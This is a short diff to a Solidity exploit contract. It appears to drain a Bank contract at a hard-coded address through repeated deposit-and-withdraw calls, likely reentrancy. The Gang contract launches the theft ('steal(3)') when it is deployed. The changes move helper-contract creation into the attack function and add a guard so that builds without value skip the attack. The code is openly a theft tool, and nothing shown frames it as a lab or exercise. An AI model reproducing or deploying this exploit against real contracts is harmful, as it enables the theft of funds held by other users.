@@ -28,12 +28,13 @@ contract Sipper {
 contract Pair {
     Bank private constant BANK = Bank(0x413744D59d31AFDC2889aeE602636177805Bd7b0);
     uint256 private constant AMOUNT = 0.1 ether;
-    Partner private immutable partner = new Partner();
+    Partner private partner;
     uint256 private left;
 
     constructor() payable {}
 
     function steal(uint256 again) external {
+        partner = new Partner();
         BANK.ethdeposit{value: AMOUNT}(address(this));
         left = again;
         BANK.withdraw(AMOUNT);
@@ -59,6 +60,8 @@ contract Partner {
 /// Does all of it while it is deployed, by a contract that it makes.
 contract Gang {
     constructor() payable {
+        // The build runs it too, where there is no bank.
+        if (msg.value == 0) return;
         Pair member = new Pair{value: msg.value}();
         member.steal(3);
     }
